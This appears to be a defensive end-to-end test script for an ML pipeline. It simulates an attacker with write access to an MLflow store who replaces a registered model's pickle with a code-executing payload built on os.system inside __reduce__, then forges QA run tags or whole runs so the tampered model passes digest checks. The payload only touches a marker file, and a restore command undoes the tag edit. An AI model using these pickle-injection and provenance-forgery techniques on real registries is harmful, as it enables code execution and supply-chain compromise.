@@ -1,0 +1,90 @@
+"""What an attacker with ordinary write access to the tracking store does (MlflowClient calls, and
+writes to the artifact store where said), as a script run in a process of its own against the
+store in MLFLOW_TRACKING_URI. It uses only MLflow's client and the pipeline's public algorithms
+(the files digest), never the gate's private key. Each payload writes a marker file when it runs.
+
+    python tests/e2e/attacks.py tag-edit MODEL MARKER        the champion's pickle overwritten, then
+                                                             the digest tag of its genuine qa run set
+    python tests/e2e/attacks.py forge-qa-run MODEL MARKER ALIAS
+                                                             a payload model, a qa run made from scratch
+                                                             vouching for it, a version of MODEL at ALIAS
+    python tests/e2e/attacks.py restore MODEL BACKUP         undo tag-edit from its backup file
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import pickle
+import sys
+from pathlib import Path
+
+import mlflow
+from mlflow import MlflowClient
+
+sys.path.insert(0, str(Path(__file__).resolve().parents[2]))  # run as a script: the project's package
+from mlpipe.training import model_io  # noqa: E402
+
+STEP_TAG, MODEL_URI_TAG, DIGEST_TAG, QA_RUN_TAG = "pipeline.step", "pipeline.model_uri", "qa.model_digest", "lineage.qa_run_id"
+
+
+class Shell:
+    """What the pickle holds: a shell command run when it is unpickled."""
+
+    def __init__(self, marker: str):
+        self.marker = marker
+
+    def __reduce__(self):
+        return os.system, (f"touch {self.marker}",)
+
+
+def _champion(client: MlflowClient, model: str):
+    version = client.get_model_version_by_alias(model, "champion")
+    return version, Path(client.get_model_version_download_uri(model, version.version).removeprefix("file://"))
+
+
+def tag_edit(model: str, marker: str) -> None:
+    """The champion's model.pkl overwritten with the payload (a backup beside the marker), then the
+    genuine qa run's digest tag set to the new files' digest: MLflow accepts tag edits on FINISHED runs."""
+    client = MlflowClient()
+    version, where = _champion(client, model)
+    qa_run_id = version.tags[QA_RUN_TAG]
+    backup = {"pkl": (where / "model.pkl").read_bytes().hex(), "qa_run_id": qa_run_id,
+              "digest": client.get_run(qa_run_id).data.tags[DIGEST_TAG], "where": str(where)}
+    Path(marker + ".backup").write_text(json.dumps(backup))
+    (where / "model.pkl").write_bytes(pickle.dumps(Shell(marker)))
+    client.set_tag(qa_run_id, DIGEST_TAG, model_io.model_digest(f"models:/{model}/{version.version}"))
+
+
+def restore(model: str, backup_file: str) -> None:
+    backup = json.loads(Path(backup_file).read_text())
+    (Path(backup["where"]) / "model.pkl").write_bytes(bytes.fromhex(backup["pkl"]))
+    MlflowClient().set_tag(backup["qa_run_id"], DIGEST_TAG, backup["digest"])
+
+
+def forge_qa_run(model: str, marker: str, alias: str) -> None:
+    """A model whose pickle is the payload; a qa run made from scratch with every tag of the
+    champion's genuine qa run, but naming this model and its digest, set FINISHED; a version of
+    `model` with the champion's tags, pointing at the forged run, at `alias`."""
+    from sklearn.dummy import DummyClassifier
+
+    client = MlflowClient()
+    champion, _ = _champion(client, model)
+    genuine = client.get_run(champion.tags[QA_RUN_TAG])
+    with mlflow.start_run(experiment_id=genuine.info.experiment_id):
+        info = mlflow.sklearn.log_model(DummyClassifier().fit([[0]], [0]), name="model",
+                                        serialization_format="cloudpickle", pip_requirements=["scikit-learn"])
+    where = Path(client.get_logged_model(info.model_id).artifact_location.removeprefix("file://"))
+    (where / "model.pkl").write_bytes(pickle.dumps(Shell(marker)))
+    tags = {k: v for k, v in genuine.data.tags.items() if not k.startswith("mlflow.")}
+    tags |= {MODEL_URI_TAG: info.model_uri, DIGEST_TAG: model_io.model_digest(info.model_uri)}
+    run = client.create_run(genuine.info.experiment_id, tags=tags)
+    client.set_terminated(run.info.run_id, "FINISHED")
+    version = client.create_model_version(model, info.model_uri, model_id=info.model_id,
+                                          tags=champion.tags | {QA_RUN_TAG: run.info.run_id})
+    client.set_registered_model_alias(model, alias, version.version)
+
+
+if __name__ == "__main__":
+    command, *args = sys.argv[1:]
+    {"tag-edit": tag_edit, "forge-qa-run": forge_qa_run, "restore": restore}[command](*args)
